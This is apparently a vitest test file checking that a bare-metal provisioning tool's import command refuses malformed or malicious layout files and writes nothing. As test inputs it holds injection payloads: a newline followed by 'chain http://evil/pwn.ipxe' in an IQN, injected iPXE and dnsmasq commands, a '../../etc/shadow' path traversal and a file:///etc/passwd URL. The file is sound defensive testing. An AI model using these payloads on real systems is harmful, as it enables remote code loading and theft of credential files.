/**
 * Issue 13, finding 5: `ironlens import` checks every record of the old file layout with
 * the API's grammars and refuses the whole file on the first violation, naming file, record
 * and field, with nothing written (a real SQLite store, real files).
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { AppError } from '@ironlens/core';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type MetalFixture, newMetalFixture } from '../testing/fixture';

const AGENTS = `agents:
  storage-lio-01:
    base_url: http://127.0.0.1:4840
    token: \${IPXE_AGENT_TOKEN_LIO}
    iscsi_server: 127.0.0.1
    role: {disk: true, cd: false}
    tags: [lio]
    enabled: true
  controller-stgt:
    base_url: http://127.0.0.1:4841
    role: {disk: true, cd: true}
    tags: [stgt]
`;
const WORKERS = `workers:
  worker-01:
    hostname: worker-01
    arch: x86_64
    state: ready
    default_os: ubuntu
    boot: {menu_default: ubuntu, menu_timeout: 3000}
    disks:
      - agent: storage-lio-01
        iqn: iqn.2026-07.com.controller:worker-01.ubuntu
        filename: worker-01.ubuntu.img
        backing: /home/iscsi_img/worker-01.ubuntu.img
        os: ubuntu
        source: {type: master, name: _tpl_ubuntu_2204.img}
    cd: null
  worker-win-build:
    hostname: worker-win-build
    arch: x86_64
    state: installing
    disks:
      - agent: storage-lio-01
        iqn: iqn.2026-07.com.controller:worker-win-build.windows
        filename: worker-win-build.windows.img
        backing: /home/iscsi_img/worker-win-build.windows.img
        os: windows
        source: {type: empty, size: 80G}
    cd:
      agent: controller-stgt
      iqn: iqn.2026-07.com.controller:worker-win-build.windows.iso
      iso: Win11_24H2.iso
      backing: /home/iscsi_img/Win11_24H2.iso
  worker-02: {}
`;
const DEVICES = `devices:
  "00:0c:29:b9:8b:2d":
    mac: 00:0c:29:b9:8b:2d
    uuid: "4c4c4544-0000"
    state: bound
    bound_worker_id: worker-01
    key_hash: null
    source: ipxe
    fingerprint:
      manufacturer: ASUSTeK COMPUTER INC.
      product: ROG Zephyrus G15
      cpumodel: "Intel(R) Core(TM) Ultra 7 155H"
      mem_total: 32768
      mem_type: DDR5
      mem_speed: 5600
      chip: RTL8125
      busid: "0110ec8125"
      platform: efi
    first_seen: 2026-08-15T10:00:00+08:00
    last_seen: 2026-08-15T12:00:00+08:00
  "00:0c:29:b9:8b:99":
    state: pooled
`;
const SETTINGS = '{"auto_register": false}\n';
const OPERATIONS = '{"id":1,"ts":"2026-08-15T10:00:00+00:00","op":"device.register","status":"ok","mac":"00:0c:29:b9:8b:2d","source":"ipxe"}\n';
const HOSTS = '# bindings\n00:0c:29:b9:8b:11,worker-win-build\n';

const VALID: Record<string, string> = {
  'config/agents.yml': AGENTS,
  'state/workers.yml': WORKERS,
  'state/devices.yml': DEVICES,
  'state/settings.json': SETTINGS,
  'state/operations.jsonl': OPERATIONS,
  'dnsmasq/dhcp-hosts.conf': HOSTS,
};

let f: MetalFixture;
const roots: string[] = [];
function layout(files: Record<string, string>): string {
  const root = mkdtempSync(join(tmpdir(), 'ironlens-layout-'));
  roots.push(root);
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, rel)), { recursive: true });
    writeFileSync(join(root, rel), text);
  }
  return root;
}
async function refusal(files: Record<string, string>, opts: { replace?: boolean } = {}): Promise<AppError> {
  const err = await f.services.layout.import(layout(files), opts).then(
    () => null,
    (e: unknown) => e,
  );
  if (!(err instanceof AppError)) throw new Error(`import was not refused with an AppError: ${String(err)}`);
  return err;
}
async function ledger() {
  return { workers: await f.services.workers.list(), devices: await f.services.devices.list(), agents: await f.services.agents.list(), ops: (await f.services.operations({})).entries.length };
}

beforeEach(async () => {
  f = await newMetalFixture();
});
afterEach(async () => {
  await f.close();
  for (const r of roots.splice(0)) rmSync(r, { recursive: true, force: true });
});

describe('ironlens import validation', () => {
  it('imports a valid layout in the seed shape', async () => {
    const out = await f.services.layout.import(layout(VALID));
    expect(out).toMatchObject({ agents: 2, workers: 3, devices: 3, bindings_from_dhcp_hosts: 1, operations: 1, settings: ['auto_register'] });
    expect((await f.services.workers.get('worker-01')).mac).toBe('00:0c:29:b9:8b:2d');
    // The firmware the device last booted with (issue 30) comes in with its fingerprint.
    expect((await f.services.devices.get('00:0c:29:b9:8b:2d')).fingerprint.platform).toBe('efi');
  });

  it("refuses the issue's workers.yml (newline and dnsmasq tag in a hostname), naming file, record and field, and writes nothing", async () => {
    const e = await refusal({ ...VALID, 'state/workers.yml': 'workers:\n  w1:\n    hostname: "evil\\nhost,set:x"\n' });
    expect([e.status, e.code]).toEqual([400, 'import_invalid']);
    expect(e.extra).toEqual({ file: 'state/workers.yml', record: 'worker "w1"', field: 'hostname' });
    expect(e.message).toMatch(/^state\/workers\.yml: worker "w1": hostname: /);
    expect(await ledger()).toEqual({ workers: [], devices: [], agents: [], ops: 0 });
  });

  it('refuses every kind of violation in every file', async () => {
    const w = (body: string) => ({ ...VALID, 'state/workers.yml': `workers:\n  w1:\n${body}` });
    const cases: Array<[Record<string, string>, string, string, string]> = [
      [w('    arch: "x\\nset foo"\n'), 'state/workers.yml', 'worker "w1"', 'arch'],
      [w('    boot: {menu_timeout: -5}\n'), 'state/workers.yml', 'worker "w1"', 'boot.menu_timeout'],
      [w('    boot: {menu_default: "reboot\\nshell"}\n'), 'state/workers.yml', 'worker "w1"', 'boot.menu_default'],
      [w('    default_os: plan9\n'), 'state/workers.yml', 'worker "w1"', 'default_os'],
      [w('    state: hacked\n'), 'state/workers.yml', 'worker "w1"', 'state'],
      [
        w('    disks:\n      - {agent: controller-stgt, iqn: "iqn.2026-07.com.controller:w1.debian\\nchain http://evil/pwn.ipxe", filename: w1.img, backing: /x/w1.img, os: debian}\n'),
        'state/workers.yml',
        'worker "w1"',
        'disks[0].iqn',
      ],
      [w('    disks:\n      - {agent: controller-stgt, iqn: "iqn.2026-07.com.controller:w1.debian", filename: ../../etc/shadow, backing: /x/w1.img, os: debian}\n'), 'state/workers.yml', 'worker "w1"', 'disks[0].filename'],
      [w('    disks:\n      - {agent: nobody, iqn: "iqn.2026-07.com.controller:w1.debian", filename: w1.img, backing: /x/w1.img, os: debian}\n'), 'state/workers.yml', 'worker "w1"', 'disks[0].agent'],
      [{ ...VALID, 'state/workers.yml': 'workers:\n  "bad id!": {}\n' }, 'state/workers.yml', 'worker "bad id!"', 'worker_id'],
      [{ ...VALID, 'state/workers.yml': 'workers:\n  a: {hostname: b}\n  b: {}\n' }, 'state/workers.yml', 'worker "b"', 'hostname'],
      [{ ...VALID, 'state/devices.yml': 'devices:\n  "ff:ff:ff:ff:ff:ff": {state: pooled}\n' }, 'state/devices.yml', 'device "ff:ff:ff:ff:ff:ff"', 'mac'],
      [{ ...VALID, 'state/devices.yml': 'devices:\n  "52:54:00:00:00:01": {state: bound, bound_worker_id: ghost}\n' }, 'state/devices.yml', 'device "52:54:00:00:00:01"', 'bound_worker_id'],
      [{ ...VALID, 'state/devices.yml': 'devices:\n  "52:54:00:00:00:01": {fingerprint: {serial: "a\\nb"}}\n' }, 'state/devices.yml', 'device "52:54:00:00:00:01"', 'fingerprint.serial'],
      [{ ...VALID, 'state/devices.yml': 'devices:\n  "52:54:00:00:00:01": {fingerprint: {platform: "efi\\nset x"}}\n' }, 'state/devices.yml', 'device "52:54:00:00:00:01"', 'fingerprint.platform'],
      [{ ...VALID, 'state/devices.yml': 'devices:\n  "52:54:00:00:00:01": {fingerprint: {platform: uefi}}\n' }, 'state/devices.yml', 'device "52:54:00:00:00:01"', 'fingerprint.platform'],
      [{ ...VALID, 'config/agents.yml': 'agents:\n  a1: {base_url: "file:///etc/passwd"}\n' }, 'config/agents.yml', 'agent "a1"', 'base_url'],
      [{ ...VALID, 'config/agents.yml': 'agents:\n  a1: {base_url: "http://127.0.0.1:1", iscsi_server: "1.2.3.4\\nset x"}\n' }, 'config/agents.yml', 'agent "a1"', 'iscsi_server'],
      [{ ...VALID, 'state/settings.json': '{"auto_register": null}' }, 'state/settings.json', 'document', 'auto_register'],
      [{ ...VALID, 'state/settings.json': '{"evil": 1}' }, 'state/settings.json', 'document', 'evil'],
      [{ ...VALID, 'state/settings.json': '{"registration_window": {"opened_at": "2026-08-21T10:00:00+00:00", "ttl_minutes": 600}}' }, 'state/settings.json', 'document', 'registration_window'],
      [{ ...VALID, 'state/settings.json': '{"registration_window": {"opened_at": "soon", "ttl_minutes": 5}}' }, 'state/settings.json', 'document', 'registration_window'],
      [{ ...VALID, 'state/operations.jsonl': `${OPERATIONS}{"id":2,"ts":"2026-08-15T10:00:00+00:00","op":"x","mac":"nope"}\n` }, 'state/operations.jsonl', 'line 2', 'mac'],
      [{ ...VALID, 'dnsmasq/dhcp-hosts.conf': '00:0c:29:b9:8b:11,worker-01,set:x\n' }, 'dnsmasq/dhcp-hosts.conf', 'line 1', 'line'],
      [{ ...VALID, 'dnsmasq/dhcp-hosts.conf': '\n00:0c:29:b9:8b:11,Evil Host\n' }, 'dnsmasq/dhcp-hosts.conf', 'line 2', 'hostname'],
    ];
    for (const [files, file, record, field] of cases) {
      const e = await refusal(files);
      expect([e.code, e.extra], `${file} ${field}`).toEqual(['import_invalid', { file, record, field }]);
    }
    expect(await ledger()).toEqual({ workers: [], devices: [], agents: [], ops: 0 });
  });

  it('with --replace, keeps the old ledger when the new layout is refused', async () => {
    await f.services.layout.import(layout(VALID));
    const before = await ledger();
    const e = await refusal({ ...VALID, 'state/workers.yml': 'workers:\n  w1:\n    boot: {menu_timeout: -5}\n' }, { replace: true });
    expect(e.code).toBe('import_invalid');
    expect(await ledger()).toEqual(before);
  });

  it('round-trips: what export writes, import takes', async () => {
    await f.services.layout.import(layout(VALID));
    const out = mkdtempSync(join(tmpdir(), 'ironlens-layout-out-'));
    roots.push(out);
    await f.services.layout.export(out);
    const g = await newMetalFixture();
    try {
      const again = await g.services.layout.import(out);
      expect(again).toMatchObject({ agents: 2, workers: 3, devices: 3 });
    } finally {
      await g.close();
    }
  });
});
